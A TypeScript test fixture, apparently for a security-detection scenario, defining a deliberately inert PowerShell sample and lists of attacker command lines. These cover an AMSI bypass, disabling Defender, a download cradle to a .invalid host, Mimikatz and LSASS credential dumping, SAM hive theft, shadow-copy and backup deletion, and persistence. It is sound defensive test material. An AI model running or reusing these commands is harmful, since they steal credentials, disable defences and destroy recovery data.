import { sha256Hex } from '../../../contracts/canonical.ts';
import type { Executable } from './executables.ts';

/**
 * The two threats of the scenario. Both harm nobody: the script ends with its first statement and its addresses are in
 * the reserved zone `.invalid`; the file does not exist, only what its headers would say.
 */
export const hostileScript = {
  name: 'Update-Invoices.ps1',
  text: `throw 'This sample is inert. It exists to be recognized.'
$ErrorActionPreference = 'SilentlyContinue'
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
Set-MpPreference -DisableRealtimeMonitoring $true
$cradle = New-Object Net.WebClient
IEX $cradle.DownloadString('http://invoices.example.invalid/stage-two.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"'
rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\ProgramData\\cache.bin full
vssadmin delete shadows /all /quiet
New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Invoices -Value 'powershell -w hidden -enc SQBFAFgA'
`,
} as const;

export const implant: Executable = {
  name: 'quote-viewer.exe',
  folder: 'C:\\Users\\%user%\\Downloads',
  shape: 'packed',
  scale: 2,
};
export const implantSha256 = sha256Hex(`outbreak scenario file ${implant.name}`);

const stage = "IEX (New-Object Net.WebClient).DownloadString('http://quotes.example.invalid/a')";
const encodedStage = Buffer.from(stage, 'utf16le').toString('base64');

/** Program and command line of what the file starts once it is let run. */
export type Misdeed = readonly [program: string, commandLine: string];

export const misdeedsAtAlpha: readonly Misdeed[] = [
  [
    'rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\ProgramData\\cache.bin full',
  ],
  ['vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
  ['powershell.exe', `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${encodedStage}`],
  ['bcdedit.exe', 'bcdedit.exe /set {default} recoveryenabled no'],
  [
    'schtasks.exe',
    'schtasks.exe /create /tn "Quote Viewer Update" /tr "C:\\ProgramData\\quote-viewer.exe" /sc minute /mo 15 /ru SYSTEM /f',
  ],
];

export const misdeedsAtBeta: readonly Misdeed[] = [
  [
    'rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\ProgramData\\cache.bin full',
  ],
  ['vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
  ['reg.exe', 'reg.exe save HKLM\\SAM C:\\ProgramData\\sam.hiv'],
  ['wbadmin.exe', 'wbadmin.exe delete catalog -quiet'],
  ['bcdedit.exe', 'bcdedit.exe /set {default} recoveryenabled no'],
];
